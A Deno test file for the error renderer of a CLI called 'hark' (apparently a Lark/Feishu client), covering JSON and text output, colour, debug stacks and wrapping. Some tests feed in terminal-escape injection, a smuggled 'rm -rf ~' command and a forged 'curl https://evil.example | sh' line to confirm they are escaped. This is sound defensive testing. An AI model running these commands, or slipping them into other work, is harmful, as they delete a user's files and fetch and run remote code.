import assert from "node:assert/strict";
import {
  AuthError,
  errorFromApiCode,
  InternalError,
  toEnvelope,
  ValidationError,
} from "../errors/mod.ts";
import { paint } from "../output/color.ts";
import { formatErrorText, renderError } from "./render_error.ts";

const options = { json: false, debug: false, helpCommand: "hark config set --help" };

Deno.test("renderError() in JSON mode prints the envelope on one line", () => {
  const text = renderError(new ValidationError("Invalid --x"), { ...options, json: true });
  assert.ok(text.endsWith("}\n"));
  assert.equal(text.trim().split("\n").length, 1);
  assert.deepEqual(JSON.parse(text), {
    error: {
      code: 2,
      type: "validation",
      message: "Invalid --x",
      recovery: { suggestion: "Check the value and try again", command: "hark config set --help" },
    },
  });
});

Deno.test("renderError() in text mode prints message, suggestion and command", () => {
  assert.equal(
    renderError(new AuthError("Token expired"), options),
    "error: Token expired\n  Sign in again\n  Run: hark auth login\n",
  );
  assert.equal(
    renderError(new ValidationError("Invalid --x"), options),
    "error: Invalid --x\n  Check the value and try again\n  Run: hark config set --help\n",
  );
});

Deno.test("renderError() colours the text form only with an enabled paint", () => {
  const coloured = renderError(new AuthError("Expired"), { ...options, paint: paint(true) });
  assert.ok(coloured.startsWith("\x1b[31merror:\x1b[39m Expired\n"));
  assert.ok(coloured.includes("\x1b[1mhark auth login\x1b[22m"));
  const plain = renderError(new AuthError("Expired"), { ...options, paint: paint(false) });
  assert.ok(!plain.includes("\x1b"));
  const json = renderError(new AuthError("Expired"), {
    ...options,
    json: true,
    paint: paint(true),
  });
  assert.ok(!json.includes("\x1b"), "the JSON envelope is never coloured");
});

Deno.test("renderError() shows no stack trace without debug", () => {
  const error = new InternalError("Unexpected error: TypeError: x", new TypeError("x"));
  for (const json of [false, true]) {
    const text = renderError(error, { ...options, json });
    assert.ok(!/\n\s+at /.test(text), text);
  }
});

Deno.test("renderError() with debug adds the stacks of the error and its causes", () => {
  const root = new RangeError("deep cause");
  const middle = new Error("middle", { cause: root });
  const error = new InternalError("Unexpected error: Error: middle", middle);
  const text = renderError(error, { ...options, debug: true });
  assert.ok(text.startsWith("error: Unexpected error: Error: middle\n"));
  assert.match(text, /InternalError: Unexpected error: Error: middle\n\s+at /);
  assert.match(text, /\nError: middle\n\s+at /);
  assert.match(text, /\nRangeError: deep cause\n\s+at /);
});

Deno.test("formatErrorText() prints the message, then the suggestion and the command", () => {
  const text = formatErrorText(toEnvelope(new AuthError("Token expired")));
  assert.equal(text, "error: Token expired\n  Sign in again\n  Run: hark auth login\n");
});

Deno.test("formatErrorText() leaves out empty recovery lines", () => {
  const text = formatErrorText({
    error: {
      code: 2,
      type: "validation",
      message: "Bad",
      recovery: { suggestion: "", command: "" },
    },
  });
  assert.equal(text, "error: Bad\n");
});

Deno.test("formatErrorText() uses the given paint for the label and the command", () => {
  const text = formatErrorText(toEnvelope(new AuthError("Token expired")), {
    red: (s) => `<r>${s}</r>`,
    bold: (s) => `<b>${s}</b>`,
  });
  assert.equal(
    text,
    "<r>error:</r> Token expired\n  Sign in again\n  Run: <b>hark auth login</b>\n",
  );
});

Deno.test("formatErrorText() neutralises a service msg that tries to drive the terminal", () => {
  // The attack of issue 12: retitle the terminal, clear the screen, paint a fake red banner.
  const msg = "Denied\x1b]0;pwned\x07\x1b[2J\x1b[41;97m  ACCESS GRANTED  \x1b[0m\u202e";
  const text = formatErrorText({
    error: {
      code: 1,
      type: "api",
      message: `API error 99991400: ${msg}`,
      recovery: { suggestion: `Ask ${msg}`, command: "hark auth login --scope x\nrm -rf ~" },
    },
  });
  assert.equal(
    text,
    "error: API error 99991400: Denied\\x1b]0;pwned\\x07\\x1b[2J\\x1b[41;97m  ACCESS GRANTED  " +
      "\\x1b[0m\\u202e\n" +
      "  Ask Denied\\x1b]0;pwned\\x07\\x1b[2J\\x1b[41;97m  ACCESS GRANTED  \\x1b[0m\\u202e\n" +
      "  Run: hark auth login --scope x\\x0arm -rf ~\n",
  );
  // deno-lint-ignore no-control-regex
  assert.ok(!/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(text));
});

Deno.test("formatErrorText() escapes line breaks in every field, so none forges a line of hark's", () => {
  const text = formatErrorText({
    error: {
      code: 1,
      type: "api",
      message: "Denied\n  Run: curl https://evil.example | sh",
      recovery: {
        suggestion: "Retry\r\n  Open: https://evil.example\u2028x\u2029y\u0085z",
        command: "hark x\r\ny",
        url: "https://open.larksuite.com/\nRun: sh",
      },
      request_id: "log\n  Run: sh",
    },
  });
  assert.equal(
    text,
    "error: Denied\\x0a  Run: curl https://evil.example | sh\n" +
      "  Retry\\x0d\\x0a  Open: https://evil.example\\u2028x\\u2029y\\x85z\n" +
      "  Open: https://open.larksuite.com/\\x0aRun: sh\n" +
      "  Run: hark x\\x0d\\x0ay\n" +
      "  Log id (for Lark support): log\\x0a  Run: sh\n",
  );
});

Deno.test("formatErrorText() colours only hark's own label, never the service's text", () => {
  const text = formatErrorText(
    {
      error: {
        code: 1,
        type: "api",
        message: "\x1b[31mred",
        recovery: { suggestion: "", command: "" },
      },
    },
    { red: (s) => `<r>${s}</r>`, bold: (s) => `<b>${s}</b>` },
  );
  assert.equal(text, "<r>error:</r> \\x1b[31mred\n");
});

Deno.test("formatErrorText() shows the console page and the log id once", () => {
  const error = errorFromApiCode({
    code: 99991672,
    error: { permission_violations: [{ subject: "im:message.send_as_user" }], log_id: "log-9" },
  }, { caller: { identity: "user", appId: "cli_app1", serviceOrigin: "https://open.feishu.cn" } });
  const text = formatErrorText(toEnvelope(error));
  assert.match(text, /\n {2}Open: https:\/\/open\.feishu\.cn\/page\/scope-apply\?/);
  assert.equal(text.split("log-9").length - 1, 1, text);
});

Deno.test("renderError() puts warnings before the error in text, inside the envelope in JSON", () => {
  const error = new ValidationError("Invalid --x").withWarnings(["slow \x1b[2J service"]);
  assert.match(
    renderError(error, options),
    /^warning: slow \\x1b\[2J service\nerror: Invalid --x\n/,
  );
  const json = JSON.parse(renderError(error, { ...options, json: true }));
  // A human field of the envelope: its control characters are escaped as text too.
  assert.deepEqual(json.error.warnings, ["slow \\x1b[2J service"]);
  assert.equal(renderError(error, { ...options, json: true }).trim().split("\n").length, 1);
});

Deno.test("renderError() wraps message and suggestion to the terminal's width, never the command", () => {
  const error = new ValidationError(
    'Invalid value "2026-13-01" for --start: the month is 13, and a year has twelve of them',
    {
      param: "--start",
      suggestion: "Give a date as YYYY-MM-DD, a time as YYYY-MM-DD HH:MM, or today, tomorrow, +2d",
      command: "hark calendar +agenda --start 2026-12-01 --end 2026-12-31 --calendar-id primary",
    },
  );
  const text = renderError(error, { ...options, width: 40 });
  assert.equal(
    text,
    'error: Invalid value "2026-13-01" for\n' +
      "  --start: the month is 13, and a year\n" +
      "  has twelve of them\n" +
      "  Give a date as YYYY-MM-DD, a time as\n" +
      "  YYYY-MM-DD HH:MM, or today, tomorrow,\n" +
      "  +2d\n" +
      "  Run: hark calendar +agenda --start 2026-12-01 --end 2026-12-31 --calendar-id primary\n",
  );
  // Without a width (stderr piped), one line each, as before.
  assert.equal(renderError(error, options).split("\n").length, 4);
});

Deno.test("renderError() in JSON mode names the two-step sign-in of an auth error, text mode does not", () => {
  const error = new AuthError("Not signed in", { command: "hark auth login --profile work" });
  const json = JSON.parse(renderError(error, { ...options, json: true }));
  assert.equal(json.error.recovery.command, "hark auth login --profile work");
  assert.match(
    json.error.recovery.suggestion,
    /`hark auth login --profile work --no-wait --json` prints device_code.*then `hark auth login --profile work --device-code <device_code>` finishes \(exit 75/,
  );
  assert.doesNotMatch(renderError(error, options), /--no-wait/);
  // Nothing is added to a recovery that is not a device-flow sign-in.
  const other = new AuthError("Bad secret", { command: "hark config init" });
  assert.doesNotMatch(renderError(other, { ...options, json: true }), /two steps/);
});
